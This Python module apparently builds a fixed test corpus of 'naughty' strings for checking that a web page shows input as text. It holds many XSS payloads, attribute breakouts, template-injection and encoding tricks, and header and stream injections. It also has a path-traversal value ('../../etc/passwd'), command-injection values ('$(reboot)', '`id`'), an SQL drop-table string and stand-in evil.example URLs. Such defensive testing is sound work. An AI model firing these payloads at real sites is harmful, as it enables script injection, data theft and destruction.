"""Strings that have broken somebody's page: made here, one family after the other.

Each is text and nothing else wherever it is shown. Those that a careless page would run set
`window.pwned`, so that a browser can tell.
"""

from __future__ import annotations

from itertools import product
from typing import Final

_RUN: Final = ("window.pwned=1", "parent.pwned=1;alert(1)", "top['pwned']=1")

_ELEMENTS: Final = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    '<img src="x" onerror="{run}" ',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java&#10;script:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button form=x formaction=javascript:{run}>x</button>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>x</select>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={run}>x</b>",
    "<div onpointerover={run}>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<link rel=preload as=script href=//evil.example/{run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
    "<b contenteditable onfocus={run} tabindex=0 autofocus>x</b>",
    "<x onclick={run} popovertarget=p>x</x>",
    "<portal src=javascript:{run}></portal>",
    "<script nomodule>{run}</script>",
)
_CLOSERS: Final = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "</pre></div></li>",
    "</svg>",
    "`>",
    "\x00>",
)
_ATTRIBUTES: Final = (
    '" onmouseover="{run}',
    "' onmouseover='{run}",
    "` onmouseover=`{run}",
    '" autofocus onfocus="{run}" x="',
    " onclick={run} ",
    '" style="background:url(javascript:{run})',
    '"/onerror="{run}"src="x',
    "\" formaction='javascript:{run}",
    '" popover ontoggle="{run}',
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "//evil.example/{run}",
    "\\\\evil.example\\{run}",
    "blob:{run}",
)
_LANGUAGES: Final = (
    "{{{{ 7*7 }}}}",
    "{{% for x in (1).__class__.__mro__ %}}{{% endfor %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''|attr('__class__') }}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "%7B%7B7*7%7D%7D",
    "'+{run}+'",
    '";{run};//',
    "';{run};//",
    "`${{{run}}}`",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\\x3cscript\\x3e{run}",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<!--#exec cmd='{run}'-->",
    "<?php {run} ?>",
    "<![CDATA[<script>{run}</script>]]>",
    "*/{run}/*",
    "@import 'javascript:{run}';",
    "}}</style><script>{run}</script>",
    '=HYPERLINK("javascript:{run}")',
    "'; DROP TABLE threads; --",
    "[x](javascript:{run})",
    '![x](x"onerror="{run})',
    "<javascript:{run}>",
    "```\n<script>{run}</script>\n```",
)
_STREAMS: Final = (
    "x\n\nevent: entry\ndata: {}\n\n",
    "x\r\n\r\nevent: head\r\ndata: 1\r\n\r\n",
    "\ndata: x",
    "id: 999999\n\n",
    ": comment\nretry: 1\n",
    "Set-Cookie: parley_session=x\r\n",
    "HTTP/1.1 200 OK\r\n\r\n<script>window.pwned=1</script>",
    "\u2028window.pwned=1\u2029",
)
_UNICODE: Final = (
    "\u202eecin si siht\u202c",
    "\u2066\u2067\u2068isolates\u2069\u2069",
    "\u200bzero\u200cwidth\u200djoiners\ufeff",
    "\u061carabic \u200emarks\u200f",
    "שלום עולם",
    "السلام عليكم",
    "Ω≈ç√∫˜µ≤≥÷",
    "你好，世界",
    "👨\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "Z̸̧̢̛̺̫͉̘͎̦̪̙͖̅͌̿͛̾͘a̵̡̧̛͙̠̣͔̜̾̈́̆l̷̡̛̤̬͇g̶̡̛̼̺̥̓ͅơ̸̧͉",
    "\u0000nul\u0000",
    "\u0007bell\u001b[31mred\u001b[0m",
    "\u0085next\u00a0line\u00ad",
    "ﬃ ligature ﬁ",
    "İstanbul ı ß ẞ",
    "\ufdd0\ufffe\uffff",
    "\U000e0041\U000e0042 tags",
    "\u115f\u3164\uffa0 fillers",
    "ᚠᛇᚻ᛫ᛒᛦᚦ",
    "аdmіn (cyrillic)",
    "\t\v\f tabs",
    "   ",
    "",
    "\n\n\n",
    "0",
    "-1e999",
    "NaN",
    "null",
    "undefined",
    "true",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "../../etc/passwd",
    "C:\\CON",
    "%s%s%n",
    "%00",
    "$(reboot)",
    "`id`",
    "|| true",
)


def naughty() -> list[str]:
    """Give all of them, each once, always in the same order."""
    found = [
        closer + element.format(run=_RUN[at % len(_RUN)])
        for at, (element, closer) in enumerate(product(_ELEMENTS, _CLOSERS))
        if closer in {"", _CLOSERS[1 + at % (len(_CLOSERS) - 1)]} or at % 2 == 0
    ]
    for run in _RUN:
        found += [one.format(run=run) for one in (*_ATTRIBUTES, *_LANGUAGES)]
    found += [*_STREAMS, *_UNICODE]
    return list(dict.fromkeys(found))
